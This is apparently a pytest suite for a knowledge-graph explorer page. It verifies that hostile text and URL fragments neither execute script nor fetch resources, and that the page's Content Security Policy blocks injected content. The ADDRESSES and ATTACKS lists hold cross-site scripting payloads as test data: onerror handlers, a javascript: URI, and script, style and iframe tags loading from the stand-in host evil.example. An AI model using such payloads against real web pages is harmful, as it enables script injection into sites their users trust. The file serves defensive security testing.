"""Hostile names and sentences in the explorer: nothing in them runs, is fetched or breaks the page."""

import pytest
from hostile_texts import HOSTILE
from small import Small

from kg.rdf.terms import literal
from kg.view.explorer.explore import explorer_page

ELSEWHERE = (
    "script:not([type]), iframe, object, embed, link[href^=http], img, base, form, style:not(head style), [onload], "
    "[onerror]"
)
QUERY = "SELECT * { ?entity <http://www.w3.org/2000/01/rdf-schema#label> ?label }"


def everywhere(texts):
    """A graph in which each of these texts stands wherever a text can stand."""
    graph = Small()
    for number, text in enumerate(texts):
        sentence = f"Zin {number}: {text} einde."
        one = graph.entity(f"one{number}", text, "ORG", "nl", f"{text}!")
        other = graph.entity(f"other{number}", text, "PER", "en")
        values = {"publisher": text, "datePublished": text, "url": text, "author": text}
        article = graph.document(f"d{number}", sentence, text, "nl", **values)
        quote = (article, 0, len(sentence))
        more = {name: literal(text) for name in ("role", "amount", "when")}
        graph.claim(one, "acquires", other, "Planned", quote, source=other, product=one, **more)
        graph.claim(one, "says", literal(sentence, "nl"), quote=quote)
        graph.claim(other, "acquires", one, "Negated", quote)
        graph.claim(one, "acquires", one, quote=quote)
    return graph


@pytest.fixture(scope="module")
def html():
    return explorer_page(everywhere(HOSTILE.values()).store(), title=HOSTILE["closing"])


def harmless(found):
    page = found.page
    assert page.evaluate("window.hacked") is None
    assert [error for error in found.errors if "Content Security Policy" not in error] == []
    assert [url for url in found.requests if not url.startswith(("file:", "blob:", "data:"))] == []
    assert page.locator(f"body :is({ELSEWHERE})").count() == page.locator("body > script:not([type])").count()
    assert page.locator("a[href]:not([href^='#']):not([href^='http'])").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def visit(page, number):
    """An entity, its facts, a document and its text."""
    page.evaluate("hash => { location.hash = hash }", f"focus=entity/one{number}&about=entity entity/one{number}")
    page.locator("main aside article").first.wait_for()
    page.evaluate("hash => { location.hash = hash }", f"about=document document/d{number}")
    page.get_by_text(f"Zin {number}:").first.wait_for()


def test_nothing_runs_and_nothing_is_fetched_wherever_a_reader_goes(explored, html, shot):
    found = explored(html)
    page = found.page
    for number in range(len(HOSTILE)):
        visit(page, number)
    harmless(found)
    page.evaluate("location.hash = 'view=list'")
    page.wait_for_timeout(300)
    shot(page, "hostile-list")
    harmless(found)
    page.get_by_role("button", name="SPARQL").click()
    page.get_by_role("textbox", name="SPARQL query").fill(QUERY)
    page.get_by_role("button", name="Run").click()
    page.wait_for_selector(".drawer .result table")
    harmless(found)
    assert page.evaluate("window.hacked") is None


def test_the_search_shows_a_hostile_name_as_text(explored, html):
    found = explored(html, viewport={"width": 360, "height": 740})
    for name in ("script", "image", "long", "bidi", "wide", "words"):
        found.page.keyboard.press("/")
        found.page.keyboard.insert_text(HOSTILE[name][:40])
        found.page.wait_for_selector("[role=option]")
        harmless(found)
        found.page.keyboard.press("Enter")
        found.page.wait_for_selector("[role=option]", state="hidden")
        harmless(found)


ADDRESSES = [
    "focus=<img src=x onerror=window.hacked=1>",
    "focus=__proto__&about=entity constructor",
    "about=document javascript:window.hacked=1",
    "query=%00%3C/script%3E&sparql=open&draw=result",
    "type=__proto__&sure=1e999&from=9999999&to=-1&lang=xx&view=<b>",
    "trail=" + "a " * 5000,
    "%",
]


def test_no_address_does_harm(explored, html):
    found = explored(html)
    for address in ADDRESSES:
        found.page.evaluate("hash => { location.hash = hash }", address)
        found.page.wait_for_timeout(200)
        harmless(found)


ATTACKS = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<script src='https://evil.example/x.js'></script>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<iframe src='https://evil.example/'></iframe>",
]


def test_the_policy_stops_what_escaping_would_let_through(explored, html):
    found = explored(html.replace("</body>", f"{''.join(ATTACKS)}</body>"))
    assert found.page.evaluate("window.hacked") is None
    assert sum("Content Security Policy" in error for error in found.errors) >= len(ATTACKS)
    assert found.failures == ["csp"] * (len(found.requests) - 1)
